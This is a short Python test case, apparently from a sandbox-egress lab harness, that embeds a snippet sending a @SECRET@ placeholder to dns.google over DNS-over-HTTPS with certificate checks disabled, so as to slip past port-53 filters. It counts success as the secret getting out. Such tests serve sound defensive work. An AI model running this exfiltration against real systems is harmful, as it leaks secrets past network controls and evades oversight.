"""asks a public resolver over TLS"""

from evidence import secret_left as succeeded

SHAPE = "DNS over HTTPS past filters of port 53"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket, ssl
context = ssl._create_unverified_context()
line = context.wrap_socket(socket.create_connection(("8.8.8.8", 443), 30), server_hostname="dns.google")
line.sendall(b"GET /dns-query?dns=@SECRET@ HTTP/1.1\\r\\nHost: dns.google\\r\\n\\r\\n")
line.recv(999)
"""
